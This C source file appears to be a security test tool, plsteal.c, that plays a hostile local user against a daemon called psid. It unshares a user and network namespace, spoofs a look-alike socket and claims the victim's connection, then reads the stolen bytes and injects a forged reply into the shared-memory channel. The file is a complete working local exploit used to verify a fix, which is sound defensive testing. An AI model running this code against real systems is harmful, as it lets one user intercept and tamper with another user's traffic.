/*
 * plsteal.c - a hostile local user against another user's connection under libpspreload,
 * through psid's negotiation (the preload trust issue, point 1; test/shell/preload_claim.sh).
 * Each mode tries to be the endpoint of a connection that is not its own, and reports what
 * psid gave it; a fixed psid gives nothing.
 *
 *   plsteal look -s SOCK -a ADDR -p PORT -f CPORTFILE [-c CADDR] [-t SECONDS] [-e]
 *     In a private user and network namespace (unshare(CLONE_NEWUSER | CLONE_NEWNET), which
 *     any user may make on Debian 12; with -e the endpoint is opened in psid's namespace
 *     first, so that psid's checks of each later socket are met, not only the endpoint's):
 *     opens an endpoint on ADDR through psid SOCK, listens
 *     on ADDR:PORT and registers that listener (PSM_PL_LISTEN); when the victim connector's
 *     port C appears in CPORTFILE (its address is CADDR, -c, default ADDR), makes a
 *     look-alike socket CADDR:C -> ADDR:PORT in the private namespace (CADDR is given a
 *     route there: lo has 127.0.0.0/8) and claims it (PSM_PL_ACCEPT), again and again for
 *     SECONDS (default 3). A same-node channel it is given is mapped: what the victim wrote
 *     is printed ("stolen N BYTES") and a reply is injected ("injected N").
 *   plsteal squat -s SOCK -a ADDR -p PORT [-t SECONDS]
 *     In psid's namespace: opens a same-node-only endpoint on ADDR (an unused local address
 *     such as 127.0.0.9), listens on ADDR:PORT and registers it, then holds it SECONDS.
 *
 * Lines: "netns ok|fail WHY", "open ERRNO TEXT", "listen ERRNO TEXT", "claim ERRNO TEXT" per
 * attempt, "claim-got fds N key K" when a claim was answered with a channel or a key.
 * Exit: 0 nothing was given to us, 3 a claim was answered with a channel or a key, 4 the
 * private namespace could not be made (the attack is not possible here), 1 other failures.
 */
#include "psi.h"
#include "psproto.h"
#include "psshm.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void usage(void)
{
    fprintf(stderr, "usage: plsteal look -s SOCK -a ADDR -p PORT -f CPORTFILE [-c CADDR] "
                    "[-t SECONDS] [-e]\n"
                    "       plsteal squat -s SOCK -a ADDR -p PORT [-t SECONDS]\n");
    exit(2);
}

static int tcp_socket(const char *addr, unsigned port, struct sockaddr_in *sa)
{
    *sa = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    if (inet_pton(AF_INET, addr, &sa->sin_addr) != 1) return -1;
    int one = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd >= 0) setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    return fd;
}

/* A request with a socket, its PSM_PL_REPLY's errno printed as "WHAT ERRNO TEXT". */
static uint32_t call(struct psi *c, const char *what, struct psmsg_buf *req, int fd)
{
    struct psmsg rep;
    uint32_t e = EPROTO;
    char text[200] = "";
    int r = psi_call_fd(c, req, fd, &rep);
    psmsg_buf_free(req);
    if (r < 0) {
        printf("%s %d %s\n", what, errno, strerror(errno));
        return (uint32_t)errno;
    }
    psmsg_get_u32(&rep.body, PSF_ERRNO, &e);
    psmsg_get_str(&rep.body, PSF_TEXT, text, sizeof text);
    printf("%s %u %s\n", what, e, text);
    fflush(stdout);
    return e;
}

static int open_endpoint(struct psi *c, const char *addr, bool shm_only)
{
    struct sockaddr_in sa = {.sin_family = AF_INET};
    int u = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (u < 0 || inet_pton(AF_INET, addr, &sa.sin_addr) != 1 ||
        bind(u, (struct sockaddr *)&sa, sizeof sa) < 0) {
        printf("open %d udp %s\n", errno, strerror(errno));
        return -1;
    }
    struct psmsg_buf req = {0};
    psmsg_begin(&req, PSM_PL_OPEN, 0);
    if (shm_only) psmsg_put_u32(&req, PSF_SAME_NODE, 1);
    return call(c, "open", &req, u) ? -1 : u;
}

static int listen_registered(struct psi *c, const char *addr, unsigned port)
{
    struct sockaddr_in sa;
    int l = tcp_socket(addr, port, &sa);
    if (l < 0 || bind(l, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(l, 16) < 0) {
        printf("listen %d tcp %s\n", errno, strerror(errno));
        return -1;
    }
    struct psmsg_buf req = {0};
    psmsg_begin(&req, PSM_PL_LISTEN, 0);
    call(c, "listen", &req, l);
    return l;
}

/* A private user and network namespace with lo up. */
static int private_netns(void)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNET) < 0) {
        printf("netns fail %s\n", strerror(errno));
        return -1;
    }
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "lo");
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0 || ioctl(s, SIOCGIFFLAGS, &ifr) < 0 ||
        (ifr.ifr_flags |= IFF_UP, ioctl(s, SIOCSIFFLAGS, &ifr)) < 0) {
        printf("netns fail lo: %s\n", strerror(errno));
        return -1;
    }
    close(s);
    printf("netns ok\n");
    return 0;
}

/* What the victim wrote into ring 0 of a channel we were given: printed, and a reply
 * injected into ring 1 (PSHM_UP with no kernel bytes first), for up to `secs`. */
static void use_channel(int memfd, int bell, double secs)
{
    struct pshm_hdr h0;
    if (pread(memfd, &h0, sizeof h0, 0) != (ssize_t)sizeof h0 || h0.magic != PSHM_MAGIC) {
        printf("stolen 0 (not a channel)\n");
        return;
    }
    size_t size = (size_t)PSHM_SIZE(h0.ring);
    uint8_t *m = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, memfd, 0);
    if (m == MAP_FAILED) {
        printf("stolen 0 (mmap %s)\n", strerror(errno));
        return;
    }
    struct pshm_hdr *h = (void *)m;
    uint8_t *r0 = m + PSHM_HDR, *r1 = r0 + h0.ring;
    uint64_t got = 0, injected = 0;
    static const char reply[] = "INJECTED by another user\n";
    double end = now() + secs;
    while (now() < end) {
        uint64_t head =
            atomic_load_explicit((_Atomic uint64_t *)&h->dir[0].head, memory_order_acquire);
        uint64_t tail = h->dir[0].tail;
        if (head - tail > 0 && head - tail <= h0.ring) {
            printf("stolen %llu ", (unsigned long long)(head - tail));
            for (uint64_t i = tail; i < head; i++) {
                uint8_t b = r0[i & (h0.ring - 1)];
                putchar(b >= 32 && b < 127 ? b : '.');
            }
            putchar('\n');
            got += head - tail;
            atomic_store_explicit((_Atomic uint64_t *)&h->dir[0].tail, head, memory_order_release);
            /* a reply for each piece read */
            uint64_t hh = h->dir[1].head;
            if (!injected) {
                h->dir[1].ktx = 0;
                atomic_fetch_or((_Atomic uint32_t *)&h->dir[1].pflags, PSHM_UP);
            }
            for (size_t i = 0; i < sizeof reply - 1; i++)
                r1[(hh + i) & (h0.ring - 1)] = (uint8_t)reply[i];
            atomic_store_explicit((_Atomic uint64_t *)&h->dir[1].head, hh + sizeof reply - 1,
                                  memory_order_release);
            injected += sizeof reply - 1;
            (void)!send(bell, "x", 1, MSG_DONTWAIT | MSG_NOSIGNAL);
            printf("injected %llu\n", (unsigned long long)injected);
            fflush(stdout);
        }
        struct pollfd pf = {.fd = bell, .events = POLLIN};
        char b[64];
        if (poll(&pf, 1, 10) > 0) (void)!recv(bell, b, sizeof b, MSG_DONTWAIT);
    }
    printf("stolen-total %llu injected %llu\n", (unsigned long long)got,
           (unsigned long long)injected);
    munmap(m, size);
}

/* Claim afd (the look-alike's accepted end): the answer event. Whether we were given
 * anything (a channel's descriptors or a key). */
static bool claim(struct psi *c, int afd, double secs)
{
    struct psmsg_buf req = {0};
    psmsg_begin(&req, PSM_PL_ACCEPT, 0);
    psmsg_put_u32(&req, PSF_TAG, 7);
    psmsg_put_u32(&req, PSF_SHM_RING, 1);
    uint32_t sent = psi_send_fd(c, &req, afd);
    psmsg_buf_free(&req);
    if (!sent) {
        printf("claim %d %s\n", errno, strerror(errno));
        return false;
    }
    struct psmsg ev;
    uint32_t tag = 0, e = EPROTO;
    int r;
    while ((r = psi_next_event(c, &ev, 3000)) > 0 &&
           (ev.type != PSM_PL_ACCEPTED || psmsg_get_u32(&ev.body, PSF_TAG, &tag) < 0 || tag != 7))
        ;
    if (r <= 0) {
        printf("claim %d no answer\n", r < 0 ? errno : ETIMEDOUT);
        return false;
    }
    char text[200] = "";
    psmsg_get_u32(&ev.body, PSF_ERRNO, &e);
    psmsg_get_str(&ev.body, PSF_TEXT, text, sizeof text);
    printf("claim %u %s\n", e, text);
    struct psmsg_field k;
    bool key = psmsg_find(&ev.body, PSF_KEY, &k);
    int fds[2] = {-1, -1}, n = 0;
    while (n < 2 && (fds[n] = psi_take_fd(c)) >= 0) n++;
    if (!e || key || n) {
        printf("claim-got fds %d key %d\n", n, key);
        fflush(stdout);
        if (n == 2) use_channel(fds[0], fds[1], secs);
    }
    for (int i = 0; i < n; i++) close(fds[i]);
    fflush(stdout);
    return !e || key || n;
}

int main(int argc, char **argv)
{
    if (argc < 2) usage();
    const char *mode = argv[1], *sock = NULL, *addr = NULL, *cfile = NULL, *caddr = NULL;
    unsigned port = 0;
    double secs = 3;
    bool early = false;
    int o;
    optind = 2;
    while ((o = getopt(argc, argv, "s:a:p:f:c:t:e")) != -1) {
        switch (o) {
        case 's':
            sock = optarg;
            break;
        case 'a':
            addr = optarg;
            break;
        case 'p':
            port = (unsigned)atoi(optarg);
            break;
        case 'f':
            cfile = optarg;
            break;
        case 'c':
            caddr = optarg;
            break;
        case 't':
            secs = atof(optarg);
            break;
        case 'e':
            early = true;
            break;
        default:
            usage();
        }
    }
    bool look = !strcmp(mode, "look");
    if (!sock || !addr || !port || port > 65535 || (!look && strcmp(mode, "squat")) ||
        (look && !cfile))
        usage();
    if (!caddr) caddr = addr;
    setvbuf(stdout, NULL, _IOLBF, 0);
    struct psi c;
    if (psi_open(&c, sock) < 0) {
        printf("psid %s\n", strerror(errno));
        return 1;
    }
    if (!look) { /* the squat: psid's own namespace, a same-node-only endpoint */
        if (open_endpoint(&c, addr, true) < 0) return 1;
        int l = listen_registered(&c, addr, port);
        if (l < 0) return 1;
        double end = now() + secs;
        while (now() < end) {
            struct psmsg ev;
            psi_next_event(&c, &ev, 100);
            int fd = psi_take_fd(&c);
            if (fd >= 0) close(fd);
        }
        return 0;
    }
    if (early && open_endpoint(&c, addr, false) < 0) return 1; /* psid's namespace */
    if (private_netns() < 0) return 4;
    if (!early && open_endpoint(&c, addr, false) < 0 && open_endpoint(&c, addr, true) < 0) {
        /* refused either way: nothing to claim with, which is the fix working too */
        printf("stolen-total 0 injected 0\n");
        return 0;
    }
    int l = listen_registered(&c, addr, port);
    if (l < 0) return 1;
    /* the victim's port: its client under the library has 30 s (the test's timeout) to
     * connect across nodes, which a loaded machine needs more than 10 s for */
    unsigned cport = 0;
    double end = now() + 30;
    while (!cport && now() < end) {
        FILE *f = fopen(cfile, "r");
        if (f) {
            if (fscanf(f, "%u", &cport) != 1) cport = 0;
            fclose(f);
        }
        if (!cport) usleep(10000);
    }
    if (!cport) {
        printf("no victim port in %s\n", cfile);
        return 1;
    }
    struct sockaddr_in la = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)}, ca;
    inet_pton(AF_INET, addr, &la.sin_addr);
    int cfd = tcp_socket(caddr, cport, &ca);
    if (cfd < 0 || bind(cfd, (struct sockaddr *)&ca, sizeof ca) < 0 ||
        connect(cfd, (struct sockaddr *)&la, sizeof la) < 0) {
        printf("look-alike %d %s\n", errno, strerror(errno));
        return 1;
    }
    int afd = accept(l, NULL, NULL);
    if (afd < 0) {
        printf("look-alike accept %s\n", strerror(errno));
        return 1;
    }
    printf("look-alike %s:%u -> %s:%u\n", caddr, cport, addr, port);
    bool got = false;
    end = now() + secs;
    while (!got && now() < end) {
        got = claim(&c, afd, end - now());
        if (!got) usleep(100000);
    }
    if (!got) printf("stolen-total 0 injected 0\n");
    return got ? 3 : 0;
}
